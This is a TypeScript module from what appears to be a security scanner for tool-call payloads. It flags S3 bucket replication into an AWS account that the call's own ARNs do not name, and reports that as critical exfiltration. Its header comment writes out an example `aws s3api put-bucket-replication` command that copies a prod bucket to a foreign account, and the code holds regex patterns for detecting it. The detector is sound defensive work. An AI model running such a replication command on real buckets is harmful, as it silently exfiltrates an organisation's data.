// Bucket replication set up to another account: `aws s3api put-bucket-replication --bucket prod
// --replication-configuration '{"Role": "arn:aws:iam::111122223333:role/r", "Rules": [{"Destination":
// {"Bucket": "arn:aws:s3:::x", "Account": "998877665544"}}]}'`, boto3's `put_bucket_replication`, the
// same object given to a tool. From then on every object written to the bucket is copied to an
// account the organisation does not hold: exfiltration that runs by itself. Critical when the
// destination names an account that no ARN of the call's own side (the role, the source) names.

import { quote, type Findings } from './findings.ts';
import type { PayloadFields } from './payload-fields.ts';

const REPLICATION = /put[-_ ]?bucket[-_ ]?replication|replication[-_ ]?configuration/i;
const DESTINATION_ACCOUNT = /["']?Account["']?\s*[:=]\s*["']?(\d{12})\b/g;
const OWN_ACCOUNT = /arn:aws[\w-]*:(?:iam|s3|kms)::(\d{12}):/g;

/** Adds a critical finding when the call replicates a bucket into an account its own ARNs do not name. */
export function assessForeignReplication(toolPath: string, payload: unknown, fields: PayloadFields, findings: Findings): void {
  if (!REPLICATION.test(toolPath) && !fields.strings.some((field) => field.text.length < 65536 && REPLICATION.test(field.text))) return;
  let text: string;
  try {
    text = JSON.stringify(payload) ?? '';
  } catch {
    return;
  }
  if (text.length > 65536) return;
  // In JSON text a string's own quotes are escaped (`\"Account\"`): read it unescaped.
  const plain = text.replace(/\\"/g, '"');
  const own = new Set([...plain.matchAll(OWN_ACCOUNT)].map((match) => match[1]));
  if (own.size === 0) return;
  for (const match of plain.matchAll(DESTINATION_ACCOUNT)) {
    if (own.has(match[1])) continue;
    findings.add('critical', `exfiltration: bucket replication into another account ${quote(match[1])} copies every new object out`);
    return;
  }
}
